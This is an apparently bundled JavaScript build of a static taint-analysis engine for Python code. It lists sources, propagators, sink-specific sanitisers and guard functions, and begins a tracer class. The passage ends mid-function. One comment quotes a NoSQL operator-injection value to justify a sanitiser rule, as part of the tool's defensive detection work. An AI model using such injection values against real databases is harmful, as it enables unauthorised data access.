    STREAM_READ_METHODS = /* @__PURE__ */ new Set(["read", "readline", "readlines"]);
    STREAM_OPENERS = /* @__PURE__ */ new Set(["open", "io.open", "codecs.open", "urllib.request.urlopen", "urllib2.urlopen", "gzip.open", "bz2.open"]);
    ROUTE_METHODS = /* @__PURE__ */ new Set(["route", "api_route", "get", "post", "put", "delete", "patch", "head", "options", "websocket"]);
    VIEW_DECORATORS = /* @__PURE__ */ new Set(["api_view", "require_http_methods", "require_GET", "require_POST", "require_safe", "csrf_exempt"]);
    STRING_METHODS = /* @__PURE__ */ new Set([
      "strip",
      "lstrip",
      "rstrip",
      "lower",
      "upper",
      "title",
      "capitalize",
      "casefold",
      "swapcase",
      "encode",
      "decode",
      "split",
      "rsplit",
      "splitlines",
      "partition",
      "rpartition",
      "removeprefix",
      "removesuffix",
      "zfill",
      "center",
      "ljust",
      "rjust",
      "expandtabs",
      "translate",
      "replace",
      "format",
      "format_map",
      "join",
      "substitute",
      "safe_substitute",
      "read",
      "getvalue"
    ]);
    BUILDING_METHODS = /* @__PURE__ */ new Set(["join", "format", "format_map", "substitute", "safe_substitute"]);
    PROPAGATORS = /* @__PURE__ */ new Set([
      "str",
      "repr",
      "bytes",
      "bytearray",
      "format",
      "list",
      "tuple",
      "set",
      "frozenset",
      "sorted",
      "reversed",
      "dict",
      "iter",
      "next",
      "os.path.join",
      "os.path.normpath",
      "os.path.abspath",
      "os.path.expanduser",
      "os.path.expandvars",
      "os.path.realpath",
      "os.fspath",
      "posixpath.join",
      "ntpath.join",
      "pathlib.Path",
      "pathlib.PurePath",
      "pathlib.PosixPath",
      "urllib.parse.urljoin",
      "urllib.parse.unquote",
      "urllib.parse.unquote_plus",
      "base64.b64decode",
      "base64.urlsafe_b64decode",
      "base64.b64encode",
      "json.loads",
      "codecs.decode",
      "textwrap.dedent",
      "string.Template",
      "io.StringIO",
      "io.BytesIO",
      "furl.furl",
      "yarl.URL",
      "urllib.parse.urlparse",
      "urllib.parse.urlsplit",
      "urlparse.urlparse",
      "urlparse.urlsplit",
      "os.path.splitext",
      "os.path.split",
      "os.path.dirname",
      "shlex.split",
      "copy.copy",
      "copy.deepcopy",
      // compile() hands its source on to the exec/eval that runs the code object.
      "compile",
      "builtins.compile"
    ]);
    WRITER_METHODS = /* @__PURE__ */ new Set(["write", "writelines", "append", "appendleft", "extend", "extendleft", "insert", "add", "update", "setdefault", "set", "push", "put", "put_nowait"]);
    LIST_CONSTRUCTORS = /* @__PURE__ */ new Set(["list", "collections.deque", "tuple"]);
    DICT_CONSTRUCTORS = /* @__PURE__ */ new Set(["dict", "collections.OrderedDict", "collections.defaultdict", "configparser.ConfigParser", "configparser.RawConfigParser", "configparser.SafeConfigParser", "ConfigParser.ConfigParser", "ConfigParser.RawConfigParser"]);
    UNIVERSAL_SANITISERS = /* @__PURE__ */ new Set(["int", "float", "bool", "len", "abs", "round", "ord", "hash", "uuid.UUID", "decimal.Decimal", "datetime.date.fromisoformat", "ipaddress.ip_address"]);
    BUILTIN_SANITISERS = /* @__PURE__ */ new Set(["int", "float", "bool", "len", "abs", "round", "ord", "hash"]);
    SINK_SANITISERS = {
      shell: ["shlex.quote", "pipes.quote", "shlex.join"],
      html: [
        "html.escape",
        "cgi.escape",
        "markupsafe.escape",
        "flask.escape",
        "jinja2.escape",
        "django.utils.html.escape",
        "django.utils.html.conditional_escape",
        "django.utils.html.format_html",
        "bleach.clean",
        "urllib.parse.quote",
        "urllib.parse.urlencode",
        "xml.sax.saxutils.escape",
        "xml.sax.saxutils.quoteattr",
        // Rendered templates: the variables are escaped (the template itself is the template-injection sink's business).
        "flask.render_template",
        "flask.templating.render_template",
        "django.shortcuts.render",
        "django.template.loader.render_to_string",
        "django.shortcuts.render_to_response",
        // A template object's render (`get_template(name).render(context)`), by method name: its variables are escaped.
        ".render",
        ".render_to_string"
      ],
      path: ["os.path.basename", "posixpath.basename", "werkzeug.utils.secure_filename", "werkzeug.secure_filename", "werkzeug.utils.safe_join", "werkzeug.security.safe_join", "flask.safe_join", "flask.helpers.safe_join", "django.utils._os.safe_join", "django.utils.text.get_valid_filename"],
      redirect: ["django.urls.reverse", "flask.url_for", "django.shortcuts.resolve_url", "urllib.parse.quote"],
      url: ["urllib.parse.quote", "urllib.parse.quote_plus", "urllib.parse.urlencode"],
      ldap: ["ldap.filter.escape_filter_chars", "ldap.filter.filter_format", "ldap3.utils.conv.escape_filter_chars", "ldap.dn.escape_dn_chars"],
      sql: ["psycopg2.sql.Identifier", "psycopg2.sql.Literal", "sqlalchemy.sql.expression.bindparam", "sqlalchemy.bindparam"],
      code: ["ast.literal_eval"],
      template: [],
      // XPath has no escaping function: variables bound at evaluation (`tree.xpath("//u[@id=$id]", id=v)`) are the fix.
      xpath: [],
      // A string or an ObjectId cannot carry a query operator (`{"$ne": null}`).
      nosql: ["str", "bson.ObjectId", "bson.objectid.ObjectId"],
      // Percent-encoding leaves no CR/LF to split a header with.
      header: ["urllib.parse.quote", "urllib.parse.quote_plus", "urllib.parse.urlencode", "werkzeug.urls.url_quote"],
      regex: ["re.escape", "regex.escape"],
      // Nothing makes attacker bytes safe to unpickle or to parse with entity expansion: only a check of where they
      // came from (a signature) or a safe parser does, and those are guards or other rules.
      deserialization: [],
      xml: []
    };
    BUILTIN_SINK_CASTS = /* @__PURE__ */ new Set(["str"]);
    CLEAN_CONVERSIONS = /* @__PURE__ */ new Set([
      "isinstance",
      "issubclass",
      "hasattr",
      "callable",
      "id",
      "type",
      "print",
      "min",
      "max",
      "sum",
      "any",
      "all",
      "os.path.exists",
      "os.path.isfile",
      "os.path.isdir",
      "os.path.getsize",
      "os.path.islink",
      "time.time",
      "hashlib.md5",
      "hashlib.sha1",
      "hashlib.sha224",
      "hashlib.sha256",
      "hashlib.sha384",
      "hashlib.sha512",
      "hashlib.blake2b",
      "hashlib.blake2s",
      "hashlib.new",
      "hmac.new",
      "hmac.compare_digest",
      "secrets.compare_digest",
      "zlib.crc32",
      "binascii.crc32",
      "uuid.uuid5",
      "uuid.uuid3",
      ".hexdigest",
      ".digest",
      ".count",
      ".index",
      ".find",
      ".rfind",
      ".startswith",
      ".endswith",
      ".isdigit",
      ".isalnum",
      ".isalpha",
      ".isidentifier",
      ".isdecimal",
      ".isnumeric",
      ".exists",
      ".is_file",
      ".is_dir",
      // Dates, times and MIME types: formatted from numbers or looked up in a fixed table.
      "django.utils.http.http_date",
      "email.utils.formatdate",
      "wsgiref.handlers.format_date_time",
      "calendar.timegm",
      "time.mktime",
      "mimetypes.guess_type",
      ".timestamp",
      ".isoformat",
      ".strftime"
    ]);
    LOOKUPS = /* @__PURE__ */ new Set([
      "django.shortcuts.get_object_or_404",
      "django.shortcuts.get_list_or_404",
      ".get_object_or_404",
      ".filter",
      ".exclude",
      ".get_or_create",
      ".first",
      ".last",
      ".order_by",
      ".values_list",
      ".fetchone",
      ".fetchall",
      ".fetchmany"
    ]);
    GUARD_METHODS = /* @__PURE__ */ new Set(["isdigit", "isdecimal", "isnumeric", "isalnum", "isalpha", "isidentifier", "startswith", "is_relative_to"]);
    GUARD_FUNCTION = /(^|[._])(is_?safe\w*|\w*allowed\w*|is_?valid\w*|valid(ate)?\w*|\w*whitelist\w*|\w*allowlist\w*)$/i;
    REGEX_MATCHERS = /* @__PURE__ */ new Set(["re.fullmatch", "re.match", "re.search", "regex.fullmatch", "regex.match"]);
    REGEX_METHODS = /* @__PURE__ */ new Set(["fullmatch", "match", "search"]);
    VALIDATING_CASTS = /* @__PURE__ */ new Set(["int", "float", "uuid.UUID", "decimal.Decimal", "ipaddress.ip_address", "datetime.date.fromisoformat"]);
    CHECK_THROUGH_CALLS = /* @__PURE__ */ new Set(["os.path.realpath", "os.path.abspath", "os.path.normpath", "urllib.parse.urlparse", "urllib.parse.urlsplit", "urlparse.urlparse"]);
    SIGNATURE_CHECKS = /* @__PURE__ */ new Set(["hmac.compare_digest", "secrets.compare_digest"]);
    MAC_MESSAGE_POSITION = { "hmac.new": 1, "hmac.HMAC": 1, "hmac.digest": 1 };
    CHECK_THROUGH_ATTRIBUTES = /* @__PURE__ */ new Set(["netloc", "hostname", "scheme"]);
    EXITING_CALL = /(^|\.)(abort|exit|_exit|fail|skipTest)$/;
  }
});

// dist/python/taint/value.js
function sinkBit(sink) {
  return 1 << SINK_CLASSES.indexOf(sink);
}
function maskOf(sinks) {
  return sinks.reduce((mask2, sink) => mask2 | sinkBit(sink), 0);
}
function extendFlow(flow, step2) {
  return { step: step2, before: flow };
}
function concatFlow(base, rest) {
  if (!rest)
    return base;
  if (!base)
    return rest;
  return { before: base, rest };
}
function flowSteps(flow) {
  const steps = [];
  const pending = flow ? [flow] : [];
  while (pending.length > 0) {
    let current = pending.pop();
    while (current) {
      if (current.rest) {
        pending.push(current.before);
        current = current.rest;
      } else {
        steps.push(current.step);
        current = current.before;
      }
    }
  }
  return steps.reverse();
}
function literalValue(literal) {
  return { facts: [], literal };
}
function factKey(fact) {
  let key = factKeys.get(fact);
  if (key === void 0)
    factKeys.set(fact, key = spellFactKey(fact));
  return key;
}
function spellFactKey(fact) {
  return `${fact.kind}|${fact.origin ?? ""}|${fact.sanitised}|${fact.tail ? 1 : 0}${fact.throughUnknown ? "u" : ""}|${fact.parameter ? `${fact.parameter.owner.id}:${fact.parameter.name}` : ""}|${fact.call ? fact.call.id : ""}`;
}
function unionFacts(a, b) {
  if (b.length === 0)
    return a;
  const seen = new Set(a.map(factKey));
  const added = [];
  for (const fact of b) {
    const key = factKey(fact);
    if (seen.has(key))
      continue;
    seen.add(key);
    added.push(fact);
  }
  return added.length === 0 ? a : boundCallSymbols(a.length === 0 ? added : [...a, ...added]);
}
function boundCallSymbols(facts) {
  let calls = 0;
  for (const fact of facts)
    if (fact.call)
      calls++;
  if (calls <= MAX_CALL_SYMBOLS)
    return facts;
  const groups = /* @__PURE__ */ new Map();
  const bounded = [];
  for (const fact of facts) {
    if (!fact.call) {
      bounded.push(fact);
      continue;
    }
    const group = `${fact.call.fn.id}|${fact.sanitised}|${fact.tail ? 1 : 0}${fact.throughUnknown ? "u" : ""}|${fact.origin ?? ""}`;
    const index = groups.get(group);
    if (index === void 0) {
      groups.set(group, bounded.length);
      bounded.push(fact);
    } else if (bounded[index].call !== fact.call) {
      const kept = bounded[index];
      bounded[index] = { ...kept, call: mergedSymbol(kept.call, fact.call), flow: kept.flow === fact.flow ? kept.flow : null };
    }
  }
  return bounded;
}
function mergedSymbol(first, second) {
  let merges = mergedSymbols.get(first);
  if (!merges)
    mergedSymbols.set(first, merges = /* @__PURE__ */ new Map());
  let merged = merges.get(second.id);
  if (!merged)
    merges.set(second.id, merged = { id: --lastMergedId, fn: first.fn, step: first.step, bindings: /* @__PURE__ */ new Map(), merged: [first, second] });
  return merged;
}
function join3(a, b) {
  if (a === b)
    return a;
  const facts = unionFacts(a.facts, b.facts);
  const result = { facts };
  if (a.literal !== void 0 && a.literal === b.literal)
    result.literal = a.literal;
  if (a.items && b.items && a.items.length === b.items.length)
    result.items = a.items.map((item, index) => join3(item, b.items[index]));
  if (a.entries && b.entries) {
    const entries = new Map(a.entries);
    for (const [key, value] of b.entries)
      entries.set(key, entries.has(key) ? join3(entries.get(key), value) : value);
    result.entries = entries;
  }
  if (a.callable && a.callable.id === b.callable?.id)
    result.callable = a.callable;
  if (a.instanceOf && a.instanceOf.id === b.instanceOf?.id)
    result.instanceOf = a.instanceOf;
  if (a.opaque && b.opaque)
    result.opaque = true;
  const sharing = containersOf(a);
  for (const container of containersOf(b))
    if (!sharing.includes(container))
      sharing.push(container);
  if (sharing.length > 0)
    result.sharing = sharing;
  if (a.requestObject || b.requestObject)
    result.requestObject = a.requestObject === "request" || b.requestObject === "request" ? "request" : "wrapper";
  return result;
}
function containersOf(value) {
  if (value.sharing)
    return [...value.sharing];
  const own = value.items ?? value.entries;
  return own ? [own] : [];
}
function joinAll(values) {
  return values.length === 0 ? CONSTANT_VALUE : values.reduce(join3);
}
function sameValue(a, b, depth = 0) {
  if (a === b)
    return true;
  if (!a || !b || depth > 8)
    return false;
  if (a.facts.length !== b.facts.length || a.literal !== b.literal || a.requestObject !== b.requestObject)
    return false;
  if (a.callable?.id !== b.callable?.id || a.instanceOf?.id !== b.instanceOf?.id || a.opaque !== b.opaque)
    return false;
  const keys = new Set(a.facts.map(factKey));
  if (!b.facts.every((fact) => keys.has(factKey(fact))))
    return false;
  if (!!a.items !== !!b.items || a.items && (a.items.length !== b.items.length || a.items.some((item, index) => !sameValue(item, b.items[index], depth + 1))))
    return false;
  if (!!a.entries !== !!b.entries)
    return false;
  if (a.entries) {
    if (a.entries.size !== b.entries.size)
      return false;
    for (const [key, value] of a.entries)
      if (!sameValue(value, b.entries.get(key), depth + 1))
        return false;
  }
  return true;
}
function dataOf(value) {
  return value.facts.length === 0 && value.literal === void 0 && !value.items && !value.entries && !value.callable && !value.instanceOf && !value.requestObject && !value.opaque ? value : { facts: value.facts };
}
function mapFacts(value, change, depth = 0) {
  const facts = [];
  for (const fact of value.facts) {
    const changed = change(fact);
    if (changed === void 0)
      continue;
    if (Array.isArray(changed))
      facts.push(...changed);
    else
      facts.push(changed);
  }
  const deduped = unionFacts([], facts);
  if (depth > 8)
    return { facts: deduped };
  return {
    ...value,
    facts: deduped,
    ...value.items ? { items: value.items.map((item) => mapFacts(item, change, depth + 1)) } : {},
    ...value.entries ? { entries: new Map([...value.entries].map(([key, entry]) => [key, mapFacts(entry, change, depth + 1)])) } : {}
  };
}
function sanitise(value, mask2, note) {
  return mapFacts(value, (fact) => ({ ...fact, sanitised: fact.sanitised | mask2, flow: note ? extendFlow(fact.flow, note) : fact.flow }));
}
function through(value, step2) {
  if (value.facts.length === 0)
    return value;
  return { ...value, facts: value.facts.map((fact) => ({ ...fact, flow: extendFlow(fact.flow, step2) })) };
}
function truthiness(value) {
  if (value.literal !== void 0)
    return value.literal !== null && value.literal !== 0 && value.literal !== "" && value.literal !== false;
  if (value.facts.length > 0 || value.requestObject)
    return void 0;
  if (value.items)
    return value.items.length > 0;
  if (value.entries && value.facts.length === 0)
    return void 0;
  if (value.callable || value.instanceOf)
    return true;
  return void 0;
}
var EVERY_SINK, CONSTANT_VALUE, UNKNOWN_FACT, UNKNOWN_VALUE, factKeys, MAX_CALL_SYMBOLS, mergedSymbols, lastMergedId;
var init_value = __esm({
  "dist/python/taint/value.js"() {
    "use strict";
    init_specs();
    EVERY_SINK = (1 << SINK_CLASSES.length) - 1;
    CONSTANT_VALUE = { facts: [] };
    UNKNOWN_FACT = { kind: "unknown", flow: null, sanitised: 0, tail: false };
    UNKNOWN_VALUE = { facts: [UNKNOWN_FACT] };
    factKeys = /* @__PURE__ */ new WeakMap();
    MAX_CALL_SYMBOLS = 8;
    mergedSymbols = /* @__PURE__ */ new WeakMap();
    lastMergedId = 0;
  }
});

// dist/python/taint/roles.js
function roleOf(fn) {
  const tree = fn.tree;
  let known = roles.get(tree);
  if (!known)
    roles.set(tree, known = /* @__PURE__ */ new Map());
  let role = known.get(fn.id);
  if (role)
    return role;
  role = { requestObjects: /* @__PURE__ */ new Set(), routeParameters: false, decorated: false, commandLine: false };
  known.set(fn.id, role);
  if (fn.type !== "function_definition")
    return role;
  const parameters = (fn.childForFieldName("parameters")?.namedChildren ?? []).filter((parameter) => parameterName(parameter));
  const names = parameters.map((parameter) => parameterName(parameter).text);
  parameters.forEach((parameter, index) => {
    const type = parameter.childForFieldName("type")?.text ?? "";
    if (REQUEST_TYPE.test(type) || REQUEST_PARAMETER_NAMES.has(names[index]) && !type)
      role.requestObjects.add(names[index]);
  });
  const first = names.find((name) => name !== "self" && name !== "cls");
  const viewShaped = !!first && role.requestObjects.has(first);
  role.decorated = isRouteHandler(fn);
  role.routeParameters = role.decorated || viewShaped && !isMethod(fn);
  role.commandLine = !role.decorated && isClickCommand(fn);
  return role;
}
function isClickCommand(fn) {
  const decorated = fn.parent?.type === "decorated_definition" ? fn.parent : null;
  return !!decorated?.namedChildren.some((child) => {
    const expression = child.type === "decorator" ? child.firstNamedChild : null;
    const callee = expression?.type === "call" ? expression.childForFieldName("function") : expression;
    return !!callee && CLICK_DECORATOR.test(callee.text);
  });
}
function isMethod(fn) {
  return fn.parent?.type === "block" && fn.parent.parent?.type === "class_definition" || fn.parent?.type === "decorated_definition" && fn.parent.parent?.type === "block" && fn.parent.parent.parent?.type === "class_definition";
}
function isRouteHandler(fn) {
  const decorated = fn.parent?.type === "decorated_definition" ? fn.parent : null;
  if (!decorated)
    return false;
  for (const decorator of decorated.namedChildren.filter((child) => child.type === "decorator")) {
    const expression = decorator.firstNamedChild;
    const callee = expression?.type === "call" ? expression.childForFieldName("function") : expression;
    if (!callee)
      continue;
    const last = callee.type === "attribute" ? callee.childForFieldName("attribute")?.text ?? "" : callee.text;
    if (VIEW_DECORATORS.has(last))
      return true;
    if (callee.type !== "attribute" || !ROUTE_METHODS.has(last) || expression?.type !== "call")
      continue;
    if (last === "route" || last === "api_route")
      return true;
    const first = argumentList(expression)[0];
    if (first?.type === "string" && /^[rbuf]*["']+\//i.test(first.text))
      return true;
  }
  return false;
}
function convertedRouteParameter(fn, name) {
  const decorated = fn.parent?.type === "decorated_definition" ? fn.parent : null;
  for (const decorator of decorated?.namedChildren ?? []) {
    const call = decorator.type === "decorator" ? decorator.firstNamedChild : null;
    const path = call?.type === "call" ? argumentList(call)[0] : void 0;
    if (path?.type !== "string")
      continue;
    for (const match of path.text.matchAll(/<(\w+):(\w+)>|\{(\w+):(\w+)\}/g)) {
      const [converter, parameter] = match[1] ? [match[1], match[2]] : [match[4], match[3]];
      if (parameter === name && CONVERTED_ROUTE_CONVERTER.test(converter))
        return true;
    }
  }
  return false;
}
var roles, CLICK_DECORATOR;
var init_roles = __esm({
  "dist/python/taint/roles.js"() {
    "use strict";
    init_scope();
    init_arguments();
    init_specs();
    roles = /* @__PURE__ */ new WeakMap();
    CLICK_DECORATOR = /^click\.(command|argument|option)$/;
  }
});

// dist/python/taint/flow.js
function step(text, node, note) {
  const compact = text.replace(/\s+/g, " ").replace(/([([{]) /g, "$1").replace(/ ([)\]}])/g, "$1").trim();
  const shown = compact.length > 60 ? `${compact.slice(0, 57)}...` : compact;
  return `${shown} (${note ? `${note}, ` : ""}line ${node.startPosition.row + 1})`;
}
var init_flow = __esm({
  "dist/python/taint/flow.js"() {
    "use strict";
  }
});

// dist/python/taint/analysis.js
function lastSegment(name) {
  return name.slice(name.lastIndexOf(".") + 1);
}
function fingerprint(value, depth) {
  const facts = value.facts.map(factKey).sort().join(",");
  if (depth > 4)
    return facts;
  const items = value.items ? `[${value.items.map((item) => fingerprint(item, depth + 1)).join(";")}]` : "";
  const entries = value.entries ? `{${[...value.entries].map(([key, entry]) => `${key}:${fingerprint(entry, depth + 1)}`).join(";")}}` : "";
  return `${facts}${value.literal !== void 0 ? `=${JSON.stringify(value.literal)}` : ""}${items}${entries}${value.callable ? `f${value.callable.id}` : ""}${value.instanceOf ? `i${value.instanceOf.id}` : ""}${value.requestObject ?? ""}`;
}
function resultKey(result, sanitised, tail) {
  if (sanitised === result.sanitised && tail === result.tail)
    return factKey(result);
  let keys = resultKeys.get(result);
  if (!keys)
    resultKeys.set(result, keys = /* @__PURE__ */ new Map());
  const index = sanitised * 2 + (tail ? 1 : 0);
  let key = keys.get(index);
  if (key === void 0)
    keys.set(index, key = factKey({ ...result, sanitised, tail }));
  return key;
}
function hasCalls(value, depth) {
  if (value.facts.some((fact) => fact.call))
    return true;
  if (depth > 8)
    return false;
  return !!value.items?.some((item) => hasCalls(item, depth + 1)) || !!value.entries && [...value.entries.values()].some((entry) => hasCalls(entry, depth + 1));
}
function followingArguments(values, nodes) {
  return joinAll(values.map((value, index) => mapFacts(throughUnknownCall(dataOf(value)), (fact) => nodes[index] ? { ...fact, tail: true } : fact)));
}
function throughUnknownCall(value) {
  return mapFacts(value, (fact) => fact.origin === "view-parameter" ? weakSourceLost(fact) : fact.throughUnknown ? fact : { ...fact, throughUnknown: true });
}
function weakSourceLost(fact) {
  return { ...fact, kind: "unknown", origin: void 0, throughUnknown: true };
}
function compose(argument2, fact) {
  return argument2.facts.map((source) => {
    const composed = {
      ...source,
      flow: concatFlow(source.flow, fact.flow),
      sanitised: source.sanitised | fact.sanitised,
      tail: source.tail || fact.tail,
      ...source.throughUnknown || fact.throughUnknown ? { throughUnknown: true } : {}
    };
    return fact.throughUnknown && composed.origin === "view-parameter" ? weakSourceLost(composed) : composed;
  });
}
function joinEnvs(envs) {
  if (envs.length === 0)
    return null;
  if (envs.length === 1)
    return envs[0];
  const result = envs[0].clone();
  for (const env of envs.slice(1)) {
    for (const [name, value] of env) {
      const old = result.get(name);
      result.set(name, old ? join3(old, value) : value);
    }
  }
  return result;
}
function sameEnv(a, b) {
  if (a.size !== b.size)
    return false;
  for (const [name, value] of a)
    if (!sameValue(value, b.get(name)))
      return false;
  return true;
}
function elementOf(value) {
  if (value.items)
    return value.items.length === 0 ? CONSTANT_VALUE : joinAll(value.items);
  if (value.entries && value.facts.length === 0)
    return CONSTANT_VALUE;
  return dataOf(value);
}
function pathOf(node) {
  if (node.type === "identifier")
    return node.text;
  if (node.type !== "attribute")
    return void 0;
  const object = node.childForFieldName("object");
  const attribute = node.childForFieldName("attribute");
  const base = object ? pathOf(object) : void 0;
  return base && attribute ? `${base}.${attribute.text}` : void 0;
}
function operandText(node) {
  if (node.type === "string" || node.type === "concatenated_string")
    return foldString(node)?.text ?? HOLE;
  return HOLE;
}
function interpolations(node) {
  return node.namedChildren.filter((child) => child.type === "interpolation").map((field) => field.childForFieldName("expression") ?? field.firstNamedChild).filter(Boolean);
}
function contains2(outer, inner) {
  return inner.startIndex >= outer.startIndex && inner.endIndex <= outer.endIndex;
}
function enclosingClassOf(node) {
  for (let current = node.parent; current; current = current.parent)
    if (current.type === "class_definition")
      return current;
  return null;
}
function decoratorsOf(fn) {
  const decorated = fn.parent?.type === "decorated_definition" ? fn.parent : null;
  return (decorated?.namedChildren ?? []).filter((child) => child.type === "decorator").map((decorator) => decorator.firstNamedChild?.text ?? "");
}
function comprehensionIterable(node) {
  for (let current = node.parent; current && current.type !== "function_definition" && current.type !== "module"; current = current.parent) {
    if (!COMPREHENSIONS.has(current.type))
      continue;
    for (const clause of current.namedChildren) {
      if (clause.type !== "for_in_clause")
        continue;
      const left = clause.childForFieldName("left");
      const right = clause.childForFieldName("right");
      if (!left || !right || contains2(right, node))
        continue;
      const bound = left.type === "identifier" ? [left] : left.descendantsOfType("identifier");
      if (bound.some((identifier) => identifier.text === node.text))
        return bound.some((identifier) => identifier.id === node.id) ? void 0 : right;
    }
  }
  return void 0;
}
function fixesDestination(text) {
  return /^\/(?![/\\])/.test(text) || /^[a-z][a-z0-9+.-]*:\/\/[^/?#\uFFFC]+[/?#]/i.test(text) || /[?#]/.test(text) || new RegExp(`^${HOLE}/(?!/)`).test(text);
}
function wholeValueMatch(kind, pattern) {
  if (typeof pattern !== "string")
    return true;
  if (kind === "fullmatch")
    return true;
  const end = /(\$|\\Z)$/.test(pattern);
  return kind === "match" ? end : end && /^(\^|\\A)/.test(pattern);
}
function foldArithmetic(operator, operands) {
  let result = operands[0];
  for (const operand of operands.slice(1)) {
    if (typeof result === "number" && typeof operand === "number") {
      switch (operator) {
        case "+":
          result = result + operand;
          break;
        case "-":
          result = result - operand;
          break;
        case "*":
          result = result * operand;
          break;
        case "/":
          if (operand === 0)
            return void 0;
          result = result / operand;
          break;
        case "//":
          if (operand === 0)
            return void 0;
          result = Math.floor(result / operand);
          break;
        case "%":
          if (operand === 0)
            return void 0;
          result = (result % operand + operand) % operand;
          break;
        case "**":
          result = result ** operand;
          break;
        default:
          return void 0;
      }
    } else if (typeof result === "string" && typeof operand === "string" && operator === "+") {
      result = result + operand;
    } else if (typeof result === "string" && typeof operand === "number" && operator === "*") {
      result = result.repeat(Math.max(0, Math.min(operand, 1e4)));
    } else {
      return void 0;
    }
  }
  return result;
}
function compare(operator, left, right) {
  const a = left.literal;
  const b = right.literal;
  if (operator === "in" || operator === "not in") {
    let found;
    if (typeof b === "string" && typeof a === "string")
      found = b.includes(a);
    else if (right.items && a !== void 0 && right.items.every((item) => item.literal !== void 0))
      found = right.items.some((item) => item.literal === a);
    else if (right.entries && right.facts.length === 0 && (typeof a === "string" || typeof a === "number"))
      found = right.entries.has(String(a));
    return found === void 0 ? void 0 : operator === "in" ? found : !found;
  }
  if (a === void 0 || b === void 0)
    return void 0;
  switch (operator) {
    case "==":
      return a === b;
    case "!=":
      return a !== b;
    case "is":
      return a === null && b === null ? true : void 0;
    case "is not":
      return a === null && b === null ? false : void 0;
    default:
      break;
  }
  if (typeof a === "number" && typeof b === "number" || typeof a === "string" && typeof b === "string") {
    switch (operator) {
      case "<":
        return a < b;
      case ">":
        return a > b;
      case "<=":
        return a <= b;
      case ">=":
        return a >= b;
      default:
        return void 0;
    }
  }
  return void 0;
}
var MAX_WALK_STEPS, MAX_LOOP_PASSES, MAX_ATTRIBUTE_WRITERS, MAX_NESTING, MAX_EXPRESSION_DEPTH, MAX_CHAIN, Env, OutOfSteps, KEEPS_CONTENTS, INPUT_ATTRIBUTE_NAMES, INPUT_CALL_NAMES, KNOWN_CALLS, COMPOUND_STATEMENTS, COMPREHENSIONS, SEQUENCE_PATTERNS, Tracer, resultKeys, HOST_SINKS, HOST_ATTRIBUTES, ANY_GENERAL_SINK, SANITISER_MASKS, PROPERTY_DECORATORS, CLOSED_LITERAL_NODES;
var init_analysis = __esm({
  "dist/python/taint/analysis.js"() {
    "use strict";
    init_syntax();
    init_scope();
    init_arguments();
    init_literals();
    init_specs();
    init_value();
    init_roles();
    init_flow();
    MAX_WALK_STEPS = 2e5;
    MAX_LOOP_PASSES = 6;
    MAX_ATTRIBUTE_WRITERS = 8;
    MAX_NESTING = 100;
    MAX_EXPRESSION_DEPTH = 150;
    MAX_CHAIN = 24;
    Env = class _Env {
      map;
      shared;
      paths;
      constructor(map = /* @__PURE__ */ new Map(), shared = false, paths = false) {
        this.map = map;
        this.shared = shared;
        this.paths = paths;
      }
      /** Some `obj.attr` is bound: assigning `obj` must forget it. */
      get hasPaths() {
        return this.paths;
      }
      get size() {
        return this.map.size;
      }
      get(name) {
        return this.map.get(name);
      }
      has(name) {
        return this.map.has(name);
      }
      keys() {
        return this.map.keys();
      }
      [Symbol.iterator]() {
        return this.map[Symbol.iterator]();
      }
      set(name, value) {
        this.own();
        if (name.includes("."))
          this.paths = true;
        this.map.set(name, value);
      }
      delete(name) {
        if (!this.map.has(name))
          return;
        this.own();
        this.map.delete(name);
      }
      clone() {
        this.shared = true;
        return new _Env(this.map, true, this.paths);
      }
      own() {
        if (!this.shared)
          return;
        this.map = new Map(this.map);
        this.shared = false;
      }
    };
    OutOfSteps = class extends Error {
    };
    KEEPS_CONTENTS = /* @__PURE__ */ new Set(["sort", "reverse", "copy", "count", "index", "get", "keys", "values", "items", "sections", "options", "has_option", "has_section"]);
    INPUT_ATTRIBUTE_NAMES = new Set(Object.keys(INPUT_ATTRIBUTES).map(lastSegment));
    INPUT_CALL_NAMES = new Set([...Object.keys(INPUT_CALLS), ...Object.keys(INPUT_BUILTINS)].map(lastSegment));
    KNOWN_CALLS = [UNIVERSAL_SANITISERS, CLEAN_CONVERSIONS, LOOKUPS, PROPAGATORS, LIST_CONSTRUCTORS, DICT_CONSTRUCTORS, new Set(Object.values(SINK_SANITISERS).flat())];
    COMPOUND_STATEMENTS = /* @__PURE__ */ new Set(["if_statement", "while_statement", "for_statement", "try_statement", "with_statement", "decorated_definition", "function_definition", "class_definition", "match_statement"]);
    COMPREHENSIONS = /* @__PURE__ */ new Set(["list_comprehension", "set_comprehension", "generator_expression", "dictionary_comprehension"]);
    SEQUENCE_PATTERNS = /* @__PURE__ */ new Set(["pattern_list", "tuple_pattern", "list_pattern", "tuple", "list", "expression_list"]);
    Tracer = class {
      module;
      analyses = /* @__PURE__ */ new Map();
      /**
       * Analyses cut short by a cycle back to `head` (at position `cut` of the chain): reused while that head is still
       * in progress, so a cycle costs one analysis per function, never one per call site. Never the final answer.
       */
      provisional = /* @__PURE__ */ new Map();
      /** What each function returns (its parameters as symbols), calls in it resolved. */
      summaries = /* @__PURE__ */ new Map();
      provisionalSummaries = /* @__PURE__ */ new Map();
      /** Call symbols by call site and argument fingerprint, and what each resolves to. */
      callSymbols = /* @__PURE__ */ new Map();
      resolvedCalls = /* @__PURE__ */ new Map();
      /** Module-level bindings' values, as a function running later may see them (any order). */
      globalValues = /* @__PURE__ */ new Map();
      /** Per class id: the `self.attr = …` targets of its methods (`instanceAssignments`). */
      classAttributes = /* @__PURE__ */ new Map();
      /** Per class id: the handler base it is built on (`HANDLER_BASES`), null for none. */
      handlerBases = /* @__PURE__ */ new Map();
      work = { analyses: 0, statements: 0, expressions: 0, resolutions: 0 };
      constructor(module2) {
        this.module = module2;
      }
      // --- questions ------------------------------------------------------------------------------------------------
      /** The value of `node` where it is, parameters of its function still symbols. */
      valueAt(node) {
        const owner = this.module.functionAt(node) ?? this.module.root;
        const { analysis } = this.analysisOf(owner, []);
        if (!analysis)
          return UNKNOWN_VALUE;
        if (analysis.dead.some((block) => contains2(block, node)))
          return CONSTANT_VALUE;
        const value = this.evaluate(node, { owner, chain: [], analysis }, 0);
        return analysis.complete ? value : join3(value, UNKNOWN_VALUE);
      }
      /** The value with every parameter symbol replaced by what the parameter holds in its function (its role). */
      resolveParameters(value) {
        return mapFacts(value, (fact) => fact.parameter ? compose(this.parameterSource(fact.parameter.owner, fact.parameter.name), fact) : fact);
      }
      /** The trace a rule sees: the strongest fact for its sink. */
      verdict(value, sink, leading) {
        let best = { kind: "constant" };
